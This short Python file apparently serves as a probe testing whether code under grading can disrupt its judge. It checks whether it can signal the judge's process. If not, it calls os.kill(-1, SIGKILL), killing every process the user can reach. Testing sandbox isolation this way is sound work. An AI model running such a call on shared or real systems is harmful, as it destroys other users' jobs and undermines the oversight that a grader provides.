# attack: Kills every process that it may: kill(-1).
# hurts: Ends the grading of everybody and whatever else runs under the same user.
# never: could signal the judge
# ends: returns or crash
import os
import signal


def attack(target):
    try:
        os.kill(target["judge_pid"], 0)
        # then the real thing would end everything on the machine: to know it is enough
        return "could signal the judge"
    except OSError:
        pass
    try:
        os.kill(-1, signal.SIGKILL)
    except OSError as error:
        return f"{error}"
    return "sent"
